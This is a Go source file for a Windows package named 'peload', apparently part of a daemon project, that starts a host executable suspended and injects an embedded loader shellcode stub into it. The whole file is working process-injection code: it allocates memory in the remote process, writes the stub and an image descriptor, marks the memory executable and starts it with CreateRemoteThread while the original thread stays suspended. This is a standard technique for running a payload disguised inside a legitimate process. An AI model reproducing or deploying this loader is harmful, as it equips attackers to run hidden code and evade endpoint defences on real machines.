//go:build windows

package peload

import (
	"context"
	"fmt"
	"io"
	"strings"
	"unsafe"

	"golang.org/x/sys/windows"

	"github.com/littlehydra/daemon/internal/assets"
	"github.com/littlehydra/daemon/internal/lherr"
	"github.com/littlehydra/daemon/internal/procchild"
)

// kernel32 is declared by hand rather than through golang.org/x/sys/windows'
// typed wrappers: the wrapper surface for remote-process primitives has
// shifted across module versions, and this code can't be compiled here to
// confirm which symbols a given pinned version exports. Self-declaring the
// four procs we need mirrors the teacher's own eventlog proc declarations
// and is stable across any version of the module that ships kernel32.dll.
var (
	modkernel32          = windows.NewLazySystemDLL("kernel32.dll")
	procVirtualAllocEx   = modkernel32.NewProc("VirtualAllocEx")
	procWriteProcMemory  = modkernel32.NewProc("WriteProcessMemory")
	procVirtualProtectEx = modkernel32.NewProc("VirtualProtectEx")
	procCreateRemoteThrd = modkernel32.NewProc("CreateRemoteThread")
)

const (
	memCommit       = 0x1000
	memReserve      = 0x2000
	pageReadWrite   = 0x04
	pageExecuteRead = 0x20
)

// Launch starts hostPath suspended, writes the embedded loader stub plus
// an image descriptor into its address space, and starts a new thread at
// the stub instead of resuming the process's own entry point. args[0] is
// the path of the PE image the stub should load; any remaining args are
// joined with spaces and passed through as the image's argument string.
// The process's original thread is left suspended permanently: it is
// never the one that runs, and resuming it would race the stub for the
// image base.
func Launch(ctx context.Context, hostPath string, args []string, workingDir string) (procchild.Child, io.ReadCloser, error) {
	if len(args) == 0 {
		return nil, nil, lherr.Newf(lherr.ProcessCreation, "peload.Launch", "peload requires an image path as the first argument")
	}
	imagePath := args[0]
	imageArgs := strings.Join(args[1:], " ")

	stdoutRead, stdoutWrite, err := newInheritablePipe()
	if err != nil {
		return nil, nil, lherr.New(lherr.ProcessCreation, "peload.Launch", err)
	}

	pi, err := createSuspended(hostPath, workingDir, stdoutWrite)
	stdoutWrite.Close()
	if err != nil {
		stdoutRead.Close()
		return nil, nil, lherr.New(lherr.ProcessCreation, "peload.Launch", err)
	}

	if err := inject(pi.Process, imagePath, imageArgs); err != nil {
		windows.TerminateProcess(pi.Process, 1)
		windows.CloseHandle(pi.Process)
		windows.CloseHandle(pi.Thread)
		stdoutRead.Close()
		return nil, nil, err
	}

	// pi.Thread is the process's original entry-point thread. It is left
	// suspended for the lifetime of the process: the stub thread started
	// by CreateRemoteThread is the only one that ever runs. The handle is
	// closed here only to avoid leaking it, not to affect its state.
	windows.CloseHandle(pi.Thread)

	child := newProcessChild(pi.Process, int(pi.ProcessId))
	return child, stdoutRead, nil
}

func newInheritablePipe() (*inheritableFile, *inheritableFile, error) {
	var readHandle, writeHandle windows.Handle
	sa := &windows.SecurityAttributes{
		Length:        uint32(unsafe.Sizeof(windows.SecurityAttributes{})),
		InheritHandle: 1,
	}
	if err := windows.CreatePipe(&readHandle, &writeHandle, sa, 0); err != nil {
		return nil, nil, fmt.Errorf("CreatePipe: %w", err)
	}
	// The read end must not be inherited by the child, only the write end.
	windows.SetHandleInformation(readHandle, windows.HANDLE_FLAG_INHERIT, 0)
	return &inheritableFile{h: readHandle}, &inheritableFile{h: writeHandle}, nil
}

// inheritableFile wraps a raw windows.Handle so it can be handed to the
// pipe reader goroutine and closed exactly once.
type inheritableFile struct {
	h windows.Handle
}

func (f *inheritableFile) Close() error { return windows.CloseHandle(f.h) }

func (f *inheritableFile) Read(p []byte) (int, error) {
	var n uint32
	err := windows.ReadFile(f.h, p, &n, nil)
	if err != nil {
		return 0, err
	}
	if n == 0 {
		return 0, io.EOF
	}
	return int(n), nil
}

func createSuspended(hostPath, workingDir string, stdoutWrite *inheritableFile) (*windows.ProcessInformation, error) {
	hostPathPtr, err := windows.UTF16PtrFromString(hostPath)
	if err != nil {
		return nil, fmt.Errorf("host path: %w", err)
	}

	var workDirPtr *uint16
	if workingDir != "" {
		workDirPtr, err = windows.UTF16PtrFromString(workingDir)
		if err != nil {
			return nil, fmt.Errorf("working dir: %w", err)
		}
	}

	si := &windows.StartupInfo{
		Cb:         uint32(unsafe.Sizeof(windows.StartupInfo{})),
		Flags:      windows.STARTF_USESTDHANDLES,
		StdOutput:  stdoutWrite.h,
		StdErr:     stdoutWrite.h,
	}
	pi := &windows.ProcessInformation{}

	err = windows.CreateProcess(
		hostPathPtr,
		nil,
		nil,
		nil,
		true,
		windows.CREATE_SUSPENDED,
		nil,
		workDirPtr,
		si,
		pi,
	)
	if err != nil {
		return nil, fmt.Errorf("CreateProcess(%q) suspended: %w", hostPath, err)
	}
	return pi, nil
}

// inject writes the embedded loader stub, the image path/args strings and
// the descriptor referencing them into the suspended process, then starts
// a fresh thread at the stub. Any failure here leaves pi.Thread suspended
// and the caller is responsible for tearing the process down.
func inject(hProcess windows.Handle, imagePath, imageArgs string) error {
	stub := make([]byte, len(assets.PELoaderShellcode))
	copy(stub, assets.PELoaderShellcode)

	stubAddr, err := allocAndWrite(hProcess, stub, pageReadWrite)
	if err != nil {
		return lherr.New(lherr.MemoryAllocation, "peload.inject", fmt.Errorf("loader stub: %w", err))
	}
	if err := protect(hProcess, stubAddr, uintptr(len(stub)), pageExecuteRead); err != nil {
		return lherr.New(lherr.MemoryWrite, "peload.inject", fmt.Errorf("protect loader stub: %w", err))
	}

	nameBytes := append([]byte(imagePath), 0)
	nameAddr, err := allocAndWrite(hProcess, nameBytes, pageReadWrite)
	if err != nil {
		return lherr.New(lherr.MemoryAllocation, "peload.inject", fmt.Errorf("image path: %w", err))
	}

	var argsAddr uintptr
	if imageArgs != "" {
		argsBytes := append([]byte(imageArgs), 0)
		argsAddr, err = allocAndWrite(hProcess, argsBytes, pageReadWrite)
		if err != nil {
			return lherr.New(lherr.MemoryAllocation, "peload.inject", fmt.Errorf("image args: %w", err))
		}
	}

	desc := descriptor{imageNamePtr: nameAddr, imageArgsPtr: argsAddr}
	descBytes := (*[unsafe.Sizeof(descriptor{})]byte)(unsafe.Pointer(&desc))[:]
	descAddr, err := allocAndWrite(hProcess, descBytes, pageReadWrite)
	if err != nil {
		return lherr.New(lherr.MemoryAllocation, "peload.inject", fmt.Errorf("descriptor: %w", err))
	}

	var threadID uint32
	r1, _, callErr := procCreateRemoteThrd.Call(
		uintptr(hProcess),
		0,
		0,
		stubAddr,
		descAddr,
		0,
		uintptr(unsafe.Pointer(&threadID)),
	)
	if r1 == 0 {
		return lherr.New(lherr.ThreadCreation, "peload.inject", callErr)
	}
	windows.CloseHandle(windows.Handle(r1))
	return nil
}

func allocAndWrite(hProcess windows.Handle, data []byte, protectFlag uint32) (uintptr, error) {
	size := uintptr(len(data))
	addr, _, callErr := procVirtualAllocEx.Call(
		uintptr(hProcess),
		0,
		size,
		memCommit|memReserve,
		uintptr(protectFlag),
	)
	if addr == 0 {
		return 0, fmt.Errorf("VirtualAllocEx: %w", callErr)
	}

	var written uintptr
	r1, _, callErr := procWriteProcMemory.Call(
		uintptr(hProcess),
		addr,
		uintptr(unsafe.Pointer(&data[0])),
		size,
		uintptr(unsafe.Pointer(&written)),
	)
	if r1 == 0 {
		return 0, fmt.Errorf("WriteProcessMemory: %w", callErr)
	}
	return addr, nil
}

func protect(hProcess windows.Handle, addr, size uintptr, newProtect uint32) error {
	var old uint32
	r1, _, callErr := procVirtualProtectEx.Call(
		uintptr(hProcess),
		addr,
		size,
		uintptr(newProtect),
		uintptr(unsafe.Pointer(&old)),
	)
	if r1 == 0 {
		return callErr
	}
	return nil
}
